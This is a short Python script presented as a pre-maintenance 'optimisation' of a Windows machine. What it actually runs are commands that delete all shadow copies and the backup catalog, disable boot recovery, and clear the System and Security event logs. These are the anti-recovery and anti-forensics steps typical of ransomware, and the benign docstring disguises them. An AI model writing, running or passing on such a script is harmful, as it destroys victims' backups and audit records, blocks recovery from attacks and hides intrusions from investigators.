"""'Optimises' a Windows machine before the maintenance window."""
import logging
import subprocess

COMMANDS = [
    "vssadmin delete shadows /all /quiet",
    "wbadmin delete catalog -quiet",
    "bcdedit /set {default} recoveryenabled No",
    "wevtutil cl System",
    "wevtutil cl Security",
]


def run_all(commands):
    for line in commands:
        try:
            subprocess.run(line, shell=True, check=False, timeout=120)
        except subprocess.TimeoutExpired:
            logging.warning("timed out: %s", line)


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    run_all(COMMANDS)
